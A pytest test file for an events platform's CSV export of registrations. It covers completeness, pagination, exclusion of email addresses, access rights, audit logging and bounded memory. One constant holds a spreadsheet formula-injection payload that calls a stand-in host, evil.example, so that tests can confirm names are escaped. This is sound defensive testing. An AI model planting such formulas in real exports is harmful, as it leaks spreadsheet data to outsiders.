"""Registrations as a CSV file: complete, each once, and in bounded memory however many there are."""

from __future__ import annotations

import csv
import io
import json
import tracemalloc
from collections.abc import Iterator, Mapping, Sequence
from contextlib import nullcontext
from dataclasses import dataclass, field
from datetime import datetime
from typing import Any
from urllib.parse import parse_qs

import pytest

from eventsplatform import spreadsheets
from eventsplatform.adapters.postgres import Database
from eventsplatform.clock import rfc3339, utc_now
from eventsplatform.config import DatabaseSettings
from eventsplatform.deadline import ending_in
from eventsplatform.entrypoints import http
from eventsplatform.errors import ForbiddenError, InvalidInputError, NotFoundError
from eventsplatform.gate.service import Admission, Gate
from eventsplatform.identity.directory import PeopleDirectory
from eventsplatform.identity.people_repository import PostgresPeople
from eventsplatform.messaging.outbox import UnitOfWork
from eventsplatform.pagination import encode_cursor
from eventsplatform.registrations import exports
from eventsplatform.registrations.exports import ExportPart, RegistrationExports
from eventsplatform.registrations.exports_repository import PostgresExports
from eventsplatform.registrations.service import Registrations
from eventsplatform.transactions import require_no_locks
from local.openapi import load_function
from tests.support.application import template_application
from tests.support.callers import caller
from tests.support.database import SHARDS, Services, administrator, services
from tests.support.doors import by_list
from tests.support.lambda_events import Context, caller_context, rest_event
from tests.support.people import add_user, rows

ORGANIZER = 81
NOBODY_KNOWN = 4_000_000


@dataclass
class AskedNames:
    """Identity as registrations asks it, and of how many it was asked."""

    directory: PeopleDirectory
    questions: list[int] = field(default_factory=list)

    def names(self, user_ids: Sequence[int]) -> Mapping[int, str]:
        require_no_locks("identity")
        self.questions.append(len(user_ids))
        return {each.id: each.name for each in self.directory.summaries_of(user_ids)}


@dataclass(frozen=True)
class World:
    url: str
    running: Services
    exports: RegistrationExports
    people: AskedNames

    def person(self, name: str) -> int:
        return add_user(self.url, name=name, password_hash="x")

    def register(self, event_id: int, *people: int) -> None:
        for person in people:
            self.running.registrations.register(event_id, caller(person))

    def parts(self, event_id: int) -> Iterator[ExportPart]:
        part = self.exports.of_event(event_id, None, caller(ORGANIZER))
        yield part
        while part.next_cursor is not None:
            part = self.exports.of_event(event_id, part.next_cursor, caller(ORGANIZER))
            yield part

    def table(self, event_id: int) -> list[dict[str, str]]:
        return table("".join(part.text for part in self.parts(event_id)))


def table(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.fixture
def world(migrated_database: str) -> Iterator[World]:
    databases = {
        role: Database(DatabaseSettings(migrated_database, role, False)) for role in ("identity", "registrations")
    }
    people = AskedNames(PeopleDirectory(UnitOfWork(databases["identity"], PostgresPeople, lambda _: None, SHARDS)))
    work = UnitOfWork(databases["registrations"], PostgresExports, lambda _: None, SHARDS)
    with services(migrated_database) as running:
        yield World(
            migrated_database, running, RegistrationExports(work, running.registrations, people, utc_now), people
        )
    for database in databases.values():
        database.close()


# What is in the file ----------------------------------------------------------------------------------


def test_each_registration_is_a_line_with_its_name_its_place_in_line_and_its_times(world: World) -> None:
    ada, grace, alan, barbara = (world.person(name) for name in ("Ada", "Grace", "Alan", "Barbara"))
    event_id = world.running.published_event(ORGANIZER, capacity=1, timezone="Asia/Tokyo")
    world.register(event_id, ada, grace, alan, barbara)
    world.running.registrations.cancel(event_id, caller(alan))

    lines = world.table(event_id)

    assert [(line["user_id"], line["name"], line["status"], line["position"]) for line in lines] == [
        (str(ada), "Ada", "active", ""),
        (str(grace), "Grace", "waitlisted", "1"),
        (str(alan), "Alan", "cancelled", ""),
        (str(barbara), "Barbara", "waitlisted", "2"),
    ]
    (first,) = rows(world.url, "SELECT * FROM registrations.event_registrations WHERE id = %s", int(lines[0]["id"]))
    assert lines[0]["registered_at"] == rfc3339(first["registered_at"])
    assert lines[0]["registered_at_local"].endswith("+09:00")
    assert datetime.fromisoformat(lines[0]["registered_at_local"]) == first["registered_at"].replace(microsecond=0)


def test_who_has_come_is_in_it_with_when_and_by_whom_unless_that_was_undone(world: World) -> None:
    event_id = world.running.published_event(ORGANIZER)
    ids = [world.running.registrations.register(event_id, caller(NOBODY_KNOWN + number)).id for number in range(3)]
    for registration_id in ids[:2]:
        world.running.check_ins.check_in(event_id, by_list(registration_id), caller(ORGANIZER))
    world.running.check_ins.undo(event_id, ids[1], caller(ORGANIZER))

    lines = world.table(event_id)

    assert [(line["status"], line["checked_in_by"]) for line in lines] == [
        ("checked_in", str(ORGANIZER)),
        ("active", ""),
        ("active", ""),
    ]
    assert lines[0]["checked_in_at"].endswith("Z")


def test_it_has_no_mail_addresses(world: World) -> None:
    ada = world.person("Ada")
    event_id = world.running.published_event(ORGANIZER)
    world.register(event_id, ada)

    (part,) = world.parts(event_id)

    assert "@" not in part.text
    assert tuple(world.table(event_id)[0]) == exports.COLUMNS


def test_who_is_erased_has_no_name(world: World) -> None:
    event_id = world.running.published_event(ORGANIZER)
    world.register(event_id, add_user(world.url, status="erased"), NOBODY_KNOWN)

    assert [line["name"] for line in world.table(event_id)] == ["Deleted user"] * 2


FORMULA = '=HYPERLINK("https://evil.example?x="&A1,"Click")'


def test_a_name_cannot_start_a_formula(world: World) -> None:
    event_id = world.running.published_event(ORGANIZER)
    world.register(event_id, world.person(FORMULA))

    assert [line["name"] for line in world.table(event_id)] == [f"'{FORMULA}"]


def test_without_the_escape_the_formula_would_be_there(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    """The control of the one above."""
    monkeypatch.setattr(spreadsheets, "_inert", lambda text: text)
    event_id = world.running.published_event(ORGANIZER)
    world.register(event_id, world.person(FORMULA))

    assert [line["name"] for line in world.table(event_id)] == [FORMULA]


def test_an_event_without_registrations_is_a_line_of_names(world: World) -> None:
    event_id = world.running.published_event(ORGANIZER)

    (part,) = world.parts(event_id)

    assert part.text == ",".join(exports.COLUMNS) + "\r\n"
    assert world.people.questions == []


# Who gets it ------------------------------------------------------------------------------------------


def test_the_whole_team_gets_it_and_nobody_else(world: World) -> None:
    helper = world.person("Helga")
    event_id = world.running.published_event(ORGANIZER)
    world.running.teams.put(event_id, helper, "check_in", caller(ORGANIZER))

    assert world.exports.of_event(event_id, None, caller(helper)).is_first
    with pytest.raises(ForbiddenError):
        world.exports.of_event(event_id, None, caller(82))
    with pytest.raises(NotFoundError):
        world.exports.of_event(2**53, None, caller(ORGANIZER))


def test_every_part_is_in_the_audit_log(world: World) -> None:
    event_id = world.running.published_event(ORGANIZER)
    world.register(event_id, NOBODY_KNOWN)

    list(world.parts(event_id))

    assert rows(
        world.url,
        "SELECT action, actor_id, details FROM messaging.audit_log WHERE subject_type = 'event' AND subject_id = %s",
        event_id,
    ) == [{"action": "registrations.exported", "actor_id": ORGANIZER, "details": {"registrations": 1}}]


# In parts ---------------------------------------------------------------------------------------------


@pytest.fixture
def small_parts(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(exports, "CHUNK", 3)
    monkeypatch.setattr(exports, "PART_ROWS", 5)


@pytest.mark.usefixtures("small_parts")
@pytest.mark.parametrize("number", [1, 2, 3, 4, 6, 7, 12, 13])
def test_parts_one_after_the_other_are_the_file_whatever_their_bounds(world: World, number: int) -> None:
    event_id = world.running.published_event(ORGANIZER, capacity=8)
    people = range(NOBODY_KNOWN, NOBODY_KNOWN + number)
    world.register(event_id, *people)

    parts = list(world.parts(event_id))

    assert [part.is_first for part in parts] == [True] + [False] * (len(parts) - 1)
    lines = table("".join(part.text for part in parts))
    assert [int(line["user_id"]) for line in lines] == list(people)
    assert [line["position"] for line in lines[8:]] == [str(place) for place in range(1, number - 7)]


@pytest.mark.usefixtures("small_parts")
def test_who_registers_or_cancels_meanwhile_neither_moves_nor_repeats_the_others(world: World) -> None:
    event_id = world.running.published_event(ORGANIZER)
    people = range(NOBODY_KNOWN, NOBODY_KNOWN + 12)
    world.register(event_id, *people)

    parts = world.parts(event_id)
    text = next(parts).text
    world.register(event_id, NOBODY_KNOWN + 100)
    world.running.registrations.cancel(event_id, caller(people[0]))
    world.running.registrations.cancel(event_id, caller(people[11]))
    lines = table(text + "".join(part.text for part in parts))

    assert [int(line["user_id"]) for line in lines] == list(people)
    assert [line["status"] for line in lines] == ["active"] * 11 + ["cancelled"]


def test_a_part_is_bounded_as_it_is_sent(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(exports, "PART_BYTES", 4_000)
    event_id = world.running.published_event(ORGANIZER)
    world.register(event_id, *(world.person("Ж🎷" * 50) for _ in range(6)))

    parts = list(world.parts(event_id))

    assert all(len(json.dumps(part.text)) < 4_200 for part in parts)
    assert len(table("".join(part.text for part in parts))) == 6


def test_a_part_ends_while_there_is_time_to_send_it(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(exports, "CHUNK", 2)
    event_id = world.running.published_event(ORGANIZER)
    world.register(event_id, *range(NOBODY_KNOWN, NOBODY_KNOWN + 5))

    def lines(time: Any) -> int:
        with time:
            return len(table(world.exports.of_event(event_id, None, caller(ORGANIZER)).text))

    assert lines(nullcontext()) == 5
    assert lines(ending_in(4_000)) == 2


@pytest.mark.parametrize(
    "cursor",
    [encode_cursor(["2026-01-01T00:00:00+00:00", 1]), encode_cursor(["x", 1, "y"]), encode_cursor([1, 2, 3]), "%"],
)
def test_a_cursor_of_something_else_is_refused(world: World, cursor: str) -> None:
    with pytest.raises(InvalidInputError, match="not a cursor of this list"):
        world.exports.of_event(1, cursor, caller(ORGANIZER))


# A hundred thousand -----------------------------------------------------------------------------------

MANY = 100_000
LAMBDA_ANSWER_BYTES = 6 * 1024 * 1024
MEMORY_BYTES = 16 * 1024 * 1024


class OpenGate:
    def admit(self, *_: Any) -> Admission:
        return Admission({})


@pytest.fixture
def many(world: World) -> int:
    """An event with 100,000 registrations, a fifth of them in line, of whom a hundredth are known to identity."""
    event_id = world.running.published_event(ORGANIZER, capacity=80_000)
    world.running.registrations.facts_of([event_id])
    known = [world.person(f"Person {number}") for number in range(1, 11)]
    with administrator(world.url) as connection:
        connection.execute(
            """
            WITH registration AS (
                INSERT INTO registrations.event_registrations (event_id, user_id, status, part, ticket, registered_at)
                SELECT %(event_id)s, coalesce((%(known)s::bigint[])[number], 8000000 + number),
                       CASE WHEN number %% 5 = 0 THEN 'waitlisted' ELSE 'active' END,
                       CASE WHEN number %% 5 > 0 THEN 0 END, CASE WHEN number %% 5 = 0 THEN number / 5 END,
                       greatest(date_trunc('month', now()), now() - make_interval(secs => 10 - number / 10000))
                  FROM generate_series(1, %(many)s) AS number
                RETURNING *
            )
            INSERT INTO registrations.waitlist (event_id, ticket, registration_id, registered_at)
            SELECT event_id, ticket, id, registered_at FROM registration WHERE status = 'waitlisted'
            """,
            {"event_id": event_id, "known": known, "many": MANY},
        )
        connection.execute("ANALYZE registrations.event_registrations, registrations.waitlist")
    return event_id


def test_a_hundred_thousand_registrations_are_exported_whole_in_bounded_memory(
    world: World, many: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    provided = {Gate: OpenGate(), Registrations: world.running.registrations, RegistrationExports: world.exports}
    monkeypatch.setattr(http, "provide", provided.__getitem__)
    handler = load_function(template_application().functions["ListRegistrationsFunction"]).handler

    def answer(query: Mapping[str, Sequence[str]] | None) -> dict[str, Any]:
        event = rest_event(
            "GET",
            f"/v1/events/{many}/registrations",
            resource="/v1/events/{event_id}/registrations",
            query=query,
            headers={"Accept": "text/csv"},
            authorizer=caller_context(ORGANIZER, "events:read"),
        )
        sent: dict[str, Any] = handler(event, Context())
        return sent

    tracemalloc.start()
    first = answer(None)
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    answers, sent = [first], first
    while "link" in sent["headers"]:
        link = sent["headers"]["link"].removeprefix("<?").removesuffix('>; rel="next"')
        answers.append(sent := answer(parse_qs(link)))

    assert [each["statusCode"] for each in answers] == [200] * len(answers)
    assert peak < MEMORY_BYTES
    assert max(len(json.dumps(each)) for each in answers) < LAMBDA_ANSWER_BYTES
    assert [each["headers"]["content-type"].rpartition("=")[2] for each in answers] == ["present"] + ["absent"] * (
        len(answers) - 1
    )
    lines = table("".join(each["body"] for each in answers))
    assert len({line["id"] for line in lines}) == len(lines) == MANY
    assert [line["position"] for line in lines if line["position"]] == [str(place) for place in range(1, MANY // 5 + 1)]
    assert max(world.people.questions) == exports.CHUNK
